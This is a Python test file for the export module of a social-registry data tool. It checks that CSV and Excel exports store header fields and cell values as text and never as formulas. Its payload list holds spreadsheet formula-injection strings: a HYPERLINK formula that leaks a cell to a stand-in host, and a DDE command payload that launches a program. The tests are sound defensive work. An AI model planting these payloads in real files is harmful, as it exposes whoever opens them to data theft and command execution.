"""Exports hold data, never formulas: hostile purposes and values in CSV and Excel, header and cells."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from regsosek import access, export

SCOPE = access.scope_for("bps_jatim", "bps_provinsi")
PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def files(purpose: str, names: list[str]) -> tuple[bytes, bytes]:
    frame = pd.DataFrame({"nama_kepala": names, "rt": list(range(1, len(names) + 1))})
    header = export.header_for(SCOPE, "2022-11-14", "snap", "desil 1-2", purpose)
    return export.build(frame, header, "csv", "x").data, export.build(frame, header, "xlsx", "x").data


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_purpose_stays_one_header_cell_of_text(payload):
    purpose = f"{payload}, bantuan, \"kutip\""
    csv_data, xlsx_data = files(purpose, ["Siti"])
    rows = list(csv.reader(io.StringIO(csv_data.decode(), newline="")))
    [purpose_row] = [row for row in rows if row and row[0].startswith("# purpose:")]
    assert len(purpose_row) == 1 and purpose_row[0] == "# purpose: " + export.header_text(purpose)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_data)).active
    cell = next(row[1] for row in sheet.iter_rows() if row[0].value == "purpose")
    assert cell.data_type == "s" and cell.value == export.header_text(purpose)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_value_is_text_in_both_files(payload):
    csv_data, xlsx_data = files("x", [payload, "Budi"])
    body = list(csv.reader(io.StringIO(csv_data.decode(), newline="")))[7:]
    assert body[0] == ["nama_kepala", "rt"]
    assert body[1] == ["'" + payload, "1"] and body[2] == ["Budi", "2"]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_data)).active
    cells = [row for row in sheet.iter_rows(min_row=10)]
    assert cells[0][0].data_type == "s" and cells[0][0].value.strip() == payload.strip()  # XML reads CR as LF
    assert cells[0][1].data_type == "n" and cells[0][1].value == 1
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_numbers_and_ordinary_text_are_left_as_they_are():
    assert export.neutral(-5) == -5 and export.neutral("Siti - Rahayu") == "Siti - Rahayu"
    assert export.neutral("-") == "'-"


def test_terms_accepted_in_an_earlier_version_must_be_accepted_again(data_dir):
    assert not export.terms_accepted("csr_madura")
    export.accept_terms("csr_madura", "2021-0")
    assert not export.terms_accepted("csr_madura")
    export.accept_terms("csr_madura", export.TERMS_VERSION)
    assert export.terms_accepted("csr_madura")
